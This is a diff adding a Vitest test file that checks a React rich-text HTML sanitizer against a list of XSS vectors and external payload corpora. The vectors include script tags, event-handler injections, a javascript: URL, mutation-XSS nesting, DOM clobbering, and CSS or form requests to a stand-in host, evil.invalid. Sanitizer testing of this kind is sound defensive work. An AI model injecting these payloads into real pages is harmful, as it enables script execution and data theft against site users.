@@ -1,0 +1,98 @@
+import { existsSync, readFileSync } from 'node:fs'
+import { join } from 'node:path'
+import { cleanup, render } from '@testing-library/react'
+import { afterEach, expect, test } from 'vitest'
+import { RichText } from './rich-text.tsx'
+
+afterEach(cleanup)
+
+const allowedTags = new Set('STRONG EM U S SPAN P DIV UL OL LI BLOCKQUOTE PRE CODE BR IMG BUTTON'.split(' '))
+const allowedAttributes = new Set(
+  'dir style class role tabindex title src alt loading decoding draggable type'.split(' '),
+)
+const safeStyle = /^(?:--rich-ink|--rich-ground|font-family|font-size): [^;:{}\\]*;$/
+
+/** Everything in the shown page that should not be there. */
+const leftovers = (html: string): string[] => {
+  const { container } = render(<RichText html={html} />)
+  const found: string[] = []
+  for (const element of container.querySelectorAll('*')) {
+    if (!allowedTags.has(element.tagName) || element.namespaceURI !== 'http://www.w3.org/1999/xhtml')
+      found.push(`<${element.tagName}>`)
+    for (const { name, value } of element.attributes) {
+      if (!allowedAttributes.has(name)) found.push(`${name}=${value}`)
+      if (name === 'src' && !/^\/media\/[^/]*$/.test(value)) found.push(`src=${value}`)
+      if (name === 'class' && !/^[\w\s-]*$/.test(value)) found.push(`class=${value}`)
+      if (name === 'style')
+        for (const declaration of value.match(/[^;]+;?/g) ?? [])
+          if (!safeStyle.test(`${declaration.trim().replace(/;$/, '')};`)) found.push(`style ${declaration}`)
+    }
+  }
+  cleanup()
+  return found
+}
+
+const own: readonly string[] = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg/onload=alert(1)>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '<form id=a><input name=attributes><input name=parentNode></form>',
+  '<form action=https://evil.invalid><button>go</button></form>',
+  '<a href="java&#x0a;script:alert(1)">x</a>',
+  '<a href="//evil.invalid" target=_blank ping=https://evil.invalid>x</a>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<base href=https://evil.invalid><a href=/frontend/x>x</a>',
+  '<meta http-equiv=refresh content="0;url=https://evil.invalid">',
+  '<link rel=stylesheet href=https://evil.invalid/a.css>',
+  '<style>@import "https://evil.invalid"</style>',
+  '<p style="background:url(https://evil.invalid/a)">x</p>',
+  '<p style="color:var(--x);--x:url(https://evil.invalid)">x</p>',
+  '<p style="color:red;}*{display:none">x</p>',
+  '<p style="position:fixed;inset:0;z-index:99999;background-color:#fff">x</p>',
+  '<font face="x;background:url(https://evil.invalid)" color="red;x:y">x</font>',
+  '<input autofocus onfocus=alert(1)>',
+  '<details open ontoggle=alert(1)>',
+  '<video><source onerror=alert(1)></video>',
+  '<template><img src=x onerror=alert(1)></template>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<textarea></textarea><img src=x onerror=alert(1)>',
+  '<a id=quayside></a><a id=quayside name=request></a>',
+  '<img name=getElementById><img id=body>',
+  '<x-custom is="y">z</x-custom>',
+  '<div><template shadowrootmode=open><script>alert(1)</script></template></div>',
+  '<object data=https://evil.invalid></object><embed src=https://evil.invalid>',
+  '<p dir="x" lang="y" accesskey="z" contenteditable>x</p>',
+  '<img src="/\\evil.invalid/a"><img src="//evil.invalid/a"><img src="https://127.0.0.1/a">',
+  '<select><option><img src=x onerror=alert(1)></select>',
+  '<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>',
+  '<button popovertarget=x>y</button><dialog open>z</dialog>',
+]
+
+test.each(own)('nothing disallowed is left of %s', (html) => {
+  expect(leftovers(html)).toEqual([])
+})
+
+test('the check itself sees what should not be there', () => {
+  const { container } = render(<RichText html="<p>x</p>" />)
+  const planted = document.createElement('iframe')
+  container.append(planted)
+  expect([...container.querySelectorAll('*')].some((element) => !allowedTags.has(element.tagName))).toBe(true)
+  expect(safeStyle.test('background: url(https://evil.invalid);')).toBe(false)
+})
+
+const folder = join(import.meta.dirname, '../../../../../shared/corpora')
+for (const name of ['xss-dompurify.json', 'xss-payloads.json']) {
+  const file = join(folder, name)
+  test.skipIf(!existsSync(file))(
+    `nothing disallowed is left of the vectors in ${name} (skipped where the folder is not there)`,
+    () => {
+      const { cases } = JSON.parse(readFileSync(file, 'utf8')) as { cases: { id: string; payload: string }[] }
+      expect(cases.length).toBeGreaterThan(200)
+      const bad = cases.flatMap(({ id, payload }) => leftovers(payload).map((what) => `${id}: ${what}`))
+      expect(bad).toEqual([])
+    },
+    60_000,
+  )
+}
